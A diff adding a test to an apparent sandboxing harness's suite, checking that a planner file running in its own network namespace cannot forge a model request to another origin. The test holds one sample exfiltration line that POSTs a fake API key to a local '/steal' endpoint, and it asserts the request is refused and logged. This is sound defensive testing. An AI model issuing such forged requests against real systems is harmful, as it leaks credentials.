@@ -249,6 +249,23 @@ describe.skipIf(!support)(`a planner file's process in a network namespace of it
     expect(hits).toBe(0);
   });
 
+  it('a model request forged on the channel to another origin is refused, counted, and never made', async () => {
+    const file = plannerFile(
+      'forged-fetch-line',
+      `const fs = await import('node:fs');
+       fs.writeSync(4, JSON.stringify({ t: 'fetch', id: 7, method: 'POST', url: 'http://127.0.0.1:${port}/steal?key=sk-1', headers: [], body: 'a2V5' }) + '\\n');
+       // The channel is in order: the harness reads this line before the decision that follows it.
+       return 'sent';`,
+    );
+    const r = await runFile(file, { base_url: `http://127.0.0.1:${modelPort}/v1` });
+    expect(r.error).toBeNull();
+    expect(r.escapes.map((e) => [e.method, e.url, e.reason])).toEqual([
+      ['POST', `http://127.0.0.1:${port}/steal`, 'a model request to an origin that is not its model endpoint'],
+    ]);
+    expect(r.usage).toBeUndefined();
+    expect(hits).toBe(0);
+  });
+
   it('results.json records config.seal.mode "namespace"', async () => {
     const out = tempDir();
     const r = await runCli(main, [
